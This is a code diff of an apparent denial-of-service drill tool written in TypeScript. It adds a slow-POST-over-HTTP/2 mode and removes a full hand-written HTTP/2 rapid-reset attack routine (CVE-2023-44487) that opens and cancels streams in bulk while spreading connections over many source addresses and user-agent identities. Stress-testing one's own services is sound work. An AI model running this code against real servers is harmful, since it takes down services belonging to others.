@@ -5,7 +5,6 @@ import type { AttackEnv } from './attack-env.js';
 import { randomToken } from './rng.js';
 import { drillLocalPorts } from './local-ports.js';
 import { browseFirst, type BrowsingBot, type WarmupReport, type WarmupSpec } from './warmup.js';
-import { goawayCode, H2_ERROR, H2_FRAME, H2_PREFACE, h2FrameReader, h2Headers, h2RstStream, h2Settings, hpackGet, wantsSettingsAck } from './h2-frames.js';
 
 /**
  * Connection attacks: slowloris (a request head that never ends, one header line at a time),
@@ -24,8 +23,10 @@ export interface SlowSpec {
    * `stream`: an event stream (Server-Sent Events) asked for as EventSource asks and held, read as it comes.
    * `h2-reset`: HTTP/2 rapid reset (CVE-2023-44487) — over TLS with ALPN h2, `streamsPerInterval`
    * requests each opened (HEADERS) and cancelled (RST_STREAM) at once, every interval.
+   * `h2-body`: slow POST on HTTP/2 streams — `streamsPerInterval` streams held open on each
+   * connection, each announcing `bodyBytes` and sending `chunkBytes` per interval (drill/h2-slow.ts).
    */
-  kind: 'headers' | 'body' | 'read' | 'websocket' | 'connect' | 'stream' | 'h2-reset';
+  kind: 'headers' | 'body' | 'read' | 'websocket' | 'connect' | 'stream' | 'h2-reset' | 'h2-body';
   /** Source addresses the connections are spread over. */
   sources: number;
   /** Connections held at once, over all sources. */
@@ -54,7 +55,7 @@ export interface SlowSpec {
    * `*∕*` is a fetch() reading the stream, which nothing announces until the response's head.
    */
   accept?: string;
-  /** HTTP/2 rapid reset: streams opened and cancelled per connection every interval. */
+  /** HTTP/2 rapid reset: streams opened and cancelled per connection every interval; `h2-body`: streams held open per connection. */
   streamsPerInterval?: number;
   /** Path requested; slow POST targets a form that accepts bodies. */
   path: string;
@@ -189,62 +190,8 @@ export function holdConnections(spec: SlowSpec, env: SlowEnv, driver: SlowDriver
   return { counters, held, longestHeldMs: () => longestHeldMs, done };
 }
 
-/**
- * HTTP/2 rapid reset: each connection negotiates h2, then every interval writes
- * `streamsPerInterval` GET streams each cancelled at once — the client pays two frames a stream,
- * the server a request each. The frames are written by hand (drill/h2-frames.ts). A GOAWAY is the
- * target's answer (counted by its error code); a target that does not speak h2 is answered `no-h2`
- * and the connection dropped.
- */
-function startRapidReset(spec: SlowSpec, env: SlowEnv): RunningSlow {
-  const perInterval = Math.max(1, spec.streamsPerInterval ?? 10);
-  const nextId = new WeakMap<Socket, number>();
-  const answered = new WeakSet<Socket>();
-  let streamsSent = 0;
-  const h = holdConnections(spec, env, {
-    open(idx, address) {
-      // http/1.1 offered too, as clients do: the handshake then tells a target without h2 apart.
-      const { socket, ready } = openTargetSocket(env, address ? { localAddress: address, localPort: drillLocalPorts.next(address) } : {}, ['h2', 'http/1.1']);
-      socket.setNoDelay(true);
-      const answer = (what: string): void => {
-        if (answered.has(socket)) return;
-        answered.add(socket);
-        recordAnswer(h.counters, env.now(), what);
-      };
-      socket.once(ready, () => {
-        if ((socket as Socket & { alpnProtocol?: string | false }).alpnProtocol !== 'h2') { answer('no-h2'); socket.destroy(); return; }
-        nextId.set(socket, 1);
-        socket.write(Buffer.concat([H2_PREFACE, h2Settings()]));
-      });
-      const read = h2FrameReader((f) => {
-        if (wantsSettingsAck(f)) socket.write(h2Settings(true));
-        else if (f.type === H2_FRAME.GOAWAY) { answer(`goaway-${goawayCode(f)}`); socket.destroy(); }
-      });
-      socket.on('data', (buf: Buffer) => { try { read(buf); } catch { socket.destroy(); } });
-      socket.once('close', () => { if (h.held.has(socket)) answer('closed'); });
-      return socket;
-    },
-    trickle(socket) {
-      const first = nextId.get(socket);
-      if (first === undefined) return;
-      const id = env.identities[first % env.identities.length]!;
-      const frames: Buffer[] = [];
-      for (let i = 0; i < perInterval; i++) {
-        const stream = first + 2 * i;
-        const path = `${spec.path}?q=${randomToken(env.rng, 6)}`;
-        frames.push(h2Headers(stream, hpackGet(env.hostHeader, path, [['user-agent', id.userAgent], ['accept', '*/*']])), h2RstStream(stream, H2_ERROR.CANCEL));
-      }
-      nextId.set(socket, first + 2 * perInterval);
-      streamsSent += perInterval;
-      socket.write(Buffer.concat(frames));
-    },
-  });
-  return { counters: h.counters, get held() { return h.held.size; }, get longestHeldMs() { return h.longestHeldMs(); }, get streamsSent() { return streamsSent; }, done: h.done };
-}
-
 /** Starts slowloris, slow POST or a connection flood; connections are spread round-robin over the source addresses. */
 export function startSlow(spec: SlowSpec, env: SlowEnv): RunningSlow {
-  if (spec.kind === 'h2-reset') return startRapidReset(spec, env);
   const head = (idx: number): string => {
     const id = env.identities[idx % env.identities.length]!;
     if (spec.kind === 'stream') {
